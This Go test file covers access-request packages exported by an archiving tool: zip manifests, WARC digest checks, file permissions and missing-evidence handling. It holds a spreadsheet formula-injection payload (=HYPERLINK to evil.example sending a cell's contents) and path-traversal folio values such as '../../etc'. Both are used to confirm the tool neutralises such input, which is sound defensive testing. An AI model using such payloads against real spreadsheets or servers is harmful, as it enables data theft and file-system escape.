package main

import (
	"archive/zip"
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	gowarc "github.com/nlnwa/gowarc/v3"

	"github.com/vigia-mx/vigia/internal/spanish"
	"github.com/vigia-mx/vigia/samplenet"
)

// hostileText is a post of an official account that a spreadsheet would
// run as a formula.
const hostileText = `=HYPERLINK("http://evil.example/robar?d="&A1,"Ver el aviso completo")`

// Every access-request package carries the evidence of what it delivers,
// built from a real crawl on each engine, through the CLI and through the
// web application, and read back as a requester would: the zip, its CSV and
// JSON lines, its WARC file (parsed with gowarc, digests recomputed).
func TestPackagesCarryTheirEvidence(t *testing.T) {
	t.Run("duckdb", func(t *testing.T) {
		sn, _, dirFile, arc := liveSample(t)
		testPackages(t, sn, dirFile, arc, cli{})
	})
	t.Run("clickhouse", func(t *testing.T) {
		arc := clickhouseArchive(t)
		sn, _, dirFile, local := liveSample(t)
		t.Setenv("VIGIA_SPOOL_DIR", local+"-spool")
		// the audit log of a server's archive is ./vigia-audit.jsonl
		t.Chdir(filepath.Dir(local))
		testPackages(t, sn, dirFile, arc, cli{"VIGIA_USERS": local + "-users.json", "VIGIA_AUDIT": local + "-audit.jsonl", "VIGIA_SPOOL_DIR": local + "-spool"})
	})
}

func testPackages(t *testing.T, sn *samplenet.Server, dirFile, arc string, c cli) {
	tmp := filepath.Dir(dirFile)
	warcDir, exports := filepath.Join(tmp, "warc"), filepath.Join(tmp, "paquetes")
	if err := sn.Publish("gobierno-gdl", "formula", hostileText, time.Now()); err != nil {
		t.Fatal(err)
	}
	if _, errs, code := c.run(t, "", "crawl", "--warc-dir", warcDir, "--directory", dirFile, "--archive", arc,
		"--allow-private-networks", "--host-rate", "0", "--once", "--progress=false"); code != 0 {
		t.Fatalf("crawl: exit %d: %s", code, errs)
	}

	// The CLI, on the whole archive: a versión pública, where evidence
	// that holds what the package must not is withheld and named.
	out := filepath.Join(tmp, "respuesta-completa")
	stdout, errs, code := c.run(t, "", "export", "--archive", arc, "--warc-dir", warcDir, "--request", "UT/0042/2026",
		"--received", "2026-11-20", "--out", out)
	if code != 0 {
		t.Fatalf("export: exit %d\n%s%s", code, stdout, errs)
	}
	if strings.Contains(errs, "evidence missing") {
		t.Errorf("export reports missing evidence: %s", errs)
	}
	checkModes(t, out)
	whole := readPackage(t, "CLI, whole archive", out+".zip", filepath.Base(out))
	whole.check(t, "UT/0042/2026", false)
	if len(whole.rows) < 40 {
		t.Errorf("the whole archive delivered %d posts", len(whole.rows))
	}

	// The CLI, an official account, no masking: nothing to withhold, so
	// every post delivered has its response in the package.
	out = filepath.Join(tmp, "respuesta-oficial")
	if stdout, errs, code := c.run(t, "", "export", "--archive", arc, "--warc-dir", warcDir, "--request", "140285726000123",
		"--account", "gobierno-gdl", "--no-redact", "--out", out); code != 0 {
		t.Fatalf("export: exit %d\n%s%s", code, stdout, errs)
	}
	official := readPackage(t, "CLI, official account", out+".zip", filepath.Base(out))
	official.check(t, "140285726000123", true)
	hostile := official.row(t, func(r []string) bool { return strings.Contains(r[8], "HYPERLINK") })
	if hostile[8] != "'"+hostileText {
		t.Errorf("the hostile post's cell is %q, want it behind an apostrophe", hostile[8])
	}

	// vigia search --format csv neutralises it too
	csvOut, errs, code := c.run(t, "", "search", "--archive", arc, "--format", "csv", "--account", "gobierno-gdl", "--text", "HYPERLINK")
	if code != 0 {
		t.Fatalf("search --format csv: exit %d: %s", code, errs)
	}
	rows, err := csv.NewReader(strings.NewReader(csvOut)).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][9] != "'"+hostileText {
		t.Errorf("search --format csv: %v, rows %q", err, rows)
	}

	// The web application: the export form, then the download, for folios
	// as offices write them and as an attacker would.
	token := c.newToken(t, arc, "lucia", "archivist")
	base := startServe(t, c.getenv, "--archive", arc, "--warc-dir", warcDir, "--exports", exports)
	officer := webLogin(t, base, "lucia")
	for _, folio := range []string{"../../etc", ".hidden", "a/b", "SAIP-2026-118", "Solicitud ñandú №7 <b>"} {
		page, code := officer.export(t, url.Values{"folio": {folio}, "account": {"gobierno-gdl"}})
		if code != http.StatusOK {
			t.Fatalf("web export of folio %q: %d\n%s", folio, code, page)
		}
		link := regexp.MustCompile(`href="(/exportar/descargas/[^"]+\.zip)"`).FindStringSubmatch(page)
		if link == nil {
			t.Fatalf("web export of folio %q: no download link\n%s", folio, page)
		}
		name := strings.TrimPrefix(link[1], "/exportar/descargas/")
		if strings.HasPrefix(name, ".") || strings.ContainsAny(name, `/\`) {
			t.Errorf("folio %q: package named %q", folio, name)
		}
		zipped := officer.download(t, link[1])
		p := readZip(t, "web, folio "+folio, zipped, strings.TrimSuffix(name, ".zip"))
		p.check(t, folio, true)
		if !strings.Contains(page, html.EscapeString(folio)) {
			t.Errorf("the page of the package does not show the folio %q", folio)
		}
	}
	checkModes(t, exports)
	if entries, err := os.ReadDir(filepath.Dir(exports)); err == nil {
		for _, e := range entries {
			if strings.Contains(e.Name(), "etc") || strings.Contains(e.Name(), "hidden") {
				t.Errorf("a package escaped the exports folder: %s", e.Name())
			}
		}
	}

	// Evidence that cannot be copied: one response record damaged.
	damaged := official.row(t, func(r []string) bool { return r[1] == "gobierno-gdl" && r[15] != "" })
	post := "mastodon/gobierno-gdl/" + damaged[2]
	damageRecord(t, filepath.Join(warcDir, damaged[14]), damaged[15])

	out = filepath.Join(tmp, "respuesta-sin-evidencia")
	args := []string{"export", "--archive", arc, "--warc-dir", warcDir, "--request", "UT/0043/2026", "--account", "gobierno-gdl", "--out", out}
	stdout, errs, code = c.run(t, "", args...)
	if code != 1 || !strings.Contains(errs, post) || !strings.Contains(errs, "--allow-missing-evidence") {
		t.Errorf("export without the evidence of %s: exit %d, want 1 naming it and the flag\n%s%s", post, code, stdout, errs)
	}
	if _, err := os.Stat(out); !os.IsNotExist(err) {
		t.Errorf("a package was left at %s: %v", out, err)
	}
	stdout, errs, code = c.run(t, "", append(args, "--allow-missing-evidence")...)
	if code != 0 {
		t.Fatalf("export --allow-missing-evidence: exit %d\n%s%s", code, stdout, errs)
	}
	allowed := readPackage(t, "CLI, evidence missing as allowed", out+".zip", filepath.Base(out))
	allowed.checkMissing(t, post)

	page, code := officer.export(t, url.Values{"folio": {"UT/0044/2026"}, "account": {"gobierno-gdl"}})
	if code != http.StatusUnprocessableEntity || !strings.Contains(page, spanish.PostLine(post)) || !strings.Contains(page, "Entregar aunque falte evidencia") {
		t.Errorf("web export without the evidence of %s: %d, want 422 naming it\n%s", post, code, page)
	}
	page, code = officer.export(t, url.Values{"folio": {"UT/0044/2026"}, "account": {"gobierno-gdl"}, "sin_evidencia": {"1"}})
	link := regexp.MustCompile(`href="(/exportar/descargas/[^"]+\.zip)"`).FindStringSubmatch(page)
	if code != http.StatusOK || link == nil {
		t.Fatalf("web export allowing missing evidence: %d\n%s", code, page)
	}
	p := readZip(t, "web, evidence missing as allowed", officer.download(t, link[1]), strings.TrimSuffix(strings.TrimPrefix(link[1], "/exportar/descargas/"), ".zip"))
	p.checkMissing(t, post)

	// and the API: 422 naming the posts, unless allowed
	for _, allow := range []bool{false, true} {
		body := fmt.Sprintf(`{"folio": "UT/0045/2026", "allow_missing_evidence": %v, "filters": {"account": "gobierno-gdl"}}`, allow)
		req, _ := http.NewRequest(http.MethodPost, base+"/api/v1/exports", strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+token)
		req.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		var got struct {
			Error    string   `json:"error"`
			Missing  []string `json:"missing"`
			Download string   `json:"download"`
		}
		err = json.NewDecoder(resp.Body).Decode(&got)
		resp.Body.Close()
		switch {
		case err != nil:
			t.Errorf("API export (allow %v): %v", allow, err)
		case !allow && (resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(strings.Join(got.Missing, "\n"), post) || !strings.Contains(got.Error, "allow_missing_evidence")):
			t.Errorf("API export without the evidence of %s: %d %+v, want 422 naming it", post, resp.StatusCode, got)
		case allow && (resp.StatusCode != http.StatusOK || !strings.Contains(strings.Join(got.Missing, "\n"), post)):
			t.Errorf("API export allowing missing evidence: %d %+v", resp.StatusCode, got)
		case allow:
			name := strings.TrimPrefix(got.Download, "/exportar/descargas/")
			readZip(t, "API, evidence missing as allowed", officer.download(t, got.Download), strings.TrimSuffix(name, ".zip")).checkMissing(t, post)
		}
	}
}

// pkg is an access-request package read back from its zip.
type pkg struct {
	where string
	files map[string][]byte
	rows  [][]string // publicaciones.csv without its header
	// records of evidencia.warc.gz, in order
	records []warcRecord
}

type warcRecord struct{ typ, id, warcinfo string }

func readPackage(t *testing.T, where, zipPath, base string) *pkg {
	t.Helper()
	data, err := os.ReadFile(zipPath)
	if err != nil {
		t.Fatal(err)
	}
	return readZip(t, where, data, base)
}

// readZip unzips a package whose entries are under base/, and parses its
// CSV and its WARC file, checking every record's block digest.
func readZip(t *testing.T, where string, data []byte, base string) *pkg {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatalf("%s: %v", where, err)
	}
	p := &pkg{where: where, files: map[string][]byte{}}
	for _, f := range zr.File {
		name, ok := strings.CutPrefix(f.Name, base+"/")
		if !ok {
			t.Errorf("%s: zip entry %q is not under %s/", where, f.Name, base)
		}
		if name == "" {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		if p.files[name], err = io.ReadAll(rc); err != nil {
			t.Fatal(err)
		}
		rc.Close()
	}
	rows, err := csv.NewReader(bytes.NewReader(p.files["publicaciones.csv"])).ReadAll()
	if err != nil || len(rows) == 0 || rows[0][14] != "warc_archivo" || rows[0][15] != "warc_registro" {
		t.Fatalf("%s: publicaciones.csv: %v, header %q", where, err, rows)
	}
	p.rows = rows[1:]

	r, err := gowarc.NewWarcFileReaderFromStream(bytes.NewReader(p.files["evidencia.warc.gz"]), 0)
	if err != nil {
		t.Fatal(err)
	}
	for rec, err := range r.Records() {
		if err != nil {
			t.Fatalf("%s: evidencia.warc.gz: %v", where, err)
		}
		h := rec.WarcRecord.WarcHeader()
		wr := warcRecord{rec.WarcRecord.Type().String(), h.Get(gowarc.WarcRecordID), h.Get(gowarc.WarcWarcinfoID)}
		if len(rec.Validation) > 0 {
			t.Errorf("%s: record %s: %v", where, wr.id, rec.Validation)
		}
		raw, err := rec.WarcRecord.Block().RawBytes()
		if err != nil {
			t.Fatal(err)
		}
		sum := sha256.New()
		if _, err := io.Copy(sum, raw); err != nil {
			t.Fatal(err)
		}
		if got, want := "sha256:"+hex.EncodeToString(sum.Sum(nil)), h.Get(gowarc.WarcBlockDigest); got != want {
			t.Errorf("%s: record %s: block digest %s, its header says %s", where, wr.id, got, want)
		}
		rec.Close()
		p.records = append(p.records, wr)
	}
	return p
}

// check holds the package to its promises: the manifest names the folio
// and verifies; every warcinfo a record names is in the file; no CSV cell
// would run as a formula; the CSV and the JSON lines deliver the same
// posts; every post delivered has its response record in the WARC file —
// unless, when not strict, the report names its evidence as withheld; and
// the report shows the folio and counts the records it carries.
func (p *pkg) check(t *testing.T, folio string, strict bool) {
	t.Helper()
	report := string(p.files["respuesta.html"])
	manifest := string(p.files["MANIFIESTO.sha256"])
	first, rest, _ := strings.Cut(manifest, "\n")
	if first != "# Solicitud de acceso a la información, folio "+folio {
		t.Errorf("%s: manifest starts %q", p.where, first)
	}
	listed := 0
	for line := range strings.Lines(rest) {
		sum, name, _ := strings.Cut(strings.TrimSpace(line), "  ")
		if got := sha256.Sum256(p.files[name]); hex.EncodeToString(got[:]) != sum {
			t.Errorf("%s: %s does not match the manifest", p.where, name)
		}
		listed++
	}
	// (every file but itself: CSV, JSON lines, evidence, report, and the
	// pages of the versions delivered, publicaciones/*.html)
	if listed != len(p.files)-1 || listed < 4 {
		t.Errorf("%s: manifest lists %d files, the zip holds %d", p.where, listed, len(p.files))
	}
	if !strings.Contains(report, "<dt>Folio</dt><dd>"+html.EscapeString(folio)+"</dd>") {
		t.Errorf("%s: the report does not show the folio %q verbatim", p.where, folio)
	}

	infos, responses := map[string]bool{}, map[string]bool{}
	for _, r := range p.records {
		switch r.typ {
		case "warcinfo":
			infos[r.id] = true
		case "response":
			responses[r.id] = true
		}
		if r.warcinfo != "" && !infos[r.warcinfo] {
			t.Errorf("%s: %s record %s names warcinfo %s, not in the file before it", p.where, r.typ, r.id, r.warcinfo)
		}
	}
	if want := fmt.Sprintf("contiene %d registros WARC", len(p.records)-1); !strings.Contains(report, want) {
		t.Errorf("%s: the report does not say %q", p.where, want)
	}
	for _, bad := range []string{"sin referencia a evidencia WARC", "No se pudo incluir la evidencia"} {
		if strings.Contains(report, bad) {
			t.Errorf("%s: the report says %q", p.where, bad)
		}
	}

	var csvPosts []string
	carried := 0
	for _, r := range p.rows {
		name := r[0] + "/" + r[1] + "/" + r[2]
		if n := len(csvPosts); n == 0 || csvPosts[n-1] != name { // a row per version delivered
			csvPosts = append(csvPosts, name)
		}
		if r[7] != "1" { // the evidence of a post of many versions is named by version
			name += ", versión " + r[16]
		}
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: post %s, column %d: %q would run as a formula", p.where, name, i, cell)
			}
		}
		switch {
		case r[14] == "" || r[15] == "":
			t.Errorf("%s: post %s has no WARC reference", p.where, name)
		case responses[r[15]]:
			carried++
		case strict:
			t.Errorf("%s: post %s: its response record %s is not in the package", p.where, name, r[15])
		case !strings.Contains(report, "<li>"+html.EscapeString(spanish.PostLine(name))+" (archivo "+r[14]+", registro "+html.EscapeString(r[15])+"): contiene "):
			t.Errorf("%s: post %s: its response record %s is neither in the package nor named as withheld", p.where, name, r[15])
		}
	}
	if carried == 0 {
		t.Errorf("%s: no post delivered carries its evidence", p.where)
	}
	t.Logf("%s: %d posts delivered, %d with their response in the package's %d records (%d warcinfo)", p.where, len(p.rows), carried, len(p.records), len(infos))
	var jsonPosts []string
	sc := bufio.NewScanner(bytes.NewReader(p.files["publicaciones.jsonl"]))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var h struct {
			Network string `json:"network"`
			Account string `json:"account"`
			PostID  string `json:"post_id"`
		}
		if err := json.Unmarshal(sc.Bytes(), &h); err != nil {
			t.Fatal(err)
		}
		jsonPosts = append(jsonPosts, h.Network+"/"+h.Account+"/"+h.PostID)
	}
	if !slices.Equal(csvPosts, jsonPosts) {
		t.Errorf("%s: the CSV delivers %q, the JSON lines %q", p.where, csvPosts, jsonPosts)
	}
}

// checkMissing checks a package built without the evidence of post, as
// the officer allowed: its report names the post and says it was asked.
func (p *pkg) checkMissing(t *testing.T, post string) {
	t.Helper()
	report := string(p.files["respuesta.html"])
	if !strings.Contains(report, "quien elaboró el paquete pidió expresamente entregarlo sin ella") ||
		!strings.Contains(report, "<li>"+spanish.PostLine(post)+" (archivo ") {
		t.Errorf("%s: the report does not name %s as delivered without its evidence, as asked", p.where, post)
	}
}

// row returns the first CSV row that match accepts.
func (p *pkg) row(t *testing.T, match func([]string) bool) []string {
	t.Helper()
	for _, r := range p.rows {
		if match(r) {
			return r
		}
	}
	t.Fatalf("%s: no such post in publicaciones.csv", p.where)
	return nil
}

// checkModes checks that a folder of packages and everything in it is the
// office's user's alone.
func checkModes(t *testing.T, root string) {
	t.Helper()
	err := filepath.Walk(root, func(path string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		want := os.FileMode(0o600)
		if fi.IsDir() {
			want = 0o700
		}
		if fi.Mode().Perm() != want {
			t.Errorf("%s: mode %v, want %v", path, fi.Mode().Perm(), want)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Stat(root + ".zip"); err == nil && fi.Mode().Perm() != 0o600 {
		t.Errorf("%s.zip: mode %v, want 0600", root, fi.Mode().Perm())
	}
}

// damageRecord flips a byte in the middle of the record id of a WARC file.
func damageRecord(t *testing.T, file, id string) {
	t.Helper()
	r, err := gowarc.NewWarcFileReader(file, 0)
	if err != nil {
		t.Fatal(err)
	}
	var at int64 = -1
	for rec, err := range r.Records() {
		if err != nil {
			t.Fatal(err)
		}
		if rec.WarcRecord.WarcHeader().Get(gowarc.WarcRecordID) == id {
			at = rec.Offset + rec.Size/2
		}
		rec.Close()
	}
	if at < 0 {
		t.Fatalf("no record %s in %s", id, file)
	}
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	data[at] ^= 0xff
	if err := os.WriteFile(file, data, 0o600); err != nil {
		t.Fatal(err)
	}
}

// browser is a signed-in session of the web application.
type browser struct {
	base   string
	client *http.Client
}

// webLogin signs name in through the login form.
func webLogin(t *testing.T, base, name string) *browser {
	t.Helper()
	jar, _ := cookiejar.New(nil)
	b := &browser{base: base, client: &http.Client{Jar: jar}}
	resp, err := b.client.PostForm(base+"/entrar", url.Values{"usuario": {name}, "contrasena": {"una clave de prueba larga"}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("login as %s: %d", name, resp.StatusCode)
	}
	return b
}

// export fills the export form with form (today's date, no masking unless
// form asks) and sends it; it returns the page answered.
func (b *browser) export(t *testing.T, form url.Values) (string, int) {
	t.Helper()
	page, _ := b.get(t, "/exportar")
	csrf := regexp.MustCompile(`name="csrf" value="([^"]+)"`).FindStringSubmatch(string(page))
	if csrf == nil {
		t.Fatalf("no CSRF token in the export form:\n%s", page)
	}
	form.Set("csrf", csrf[1])
	form.Set("recibida", time.Now().Format(time.DateOnly))
	resp, err := b.client.PostForm(b.base+"/exportar", form)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return string(body), resp.StatusCode
}

func (b *browser) get(t *testing.T, path string) ([]byte, int) {
	t.Helper()
	resp, err := b.client.Get(b.base + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return body, resp.StatusCode
}

// download fetches a package's zip.
func (b *browser) download(t *testing.T, path string) []byte {
	t.Helper()
	body, code := b.get(t, path)
	if code != http.StatusOK {
		t.Fatalf("download %s: %d %s", path, code, body)
	}
	return body
}
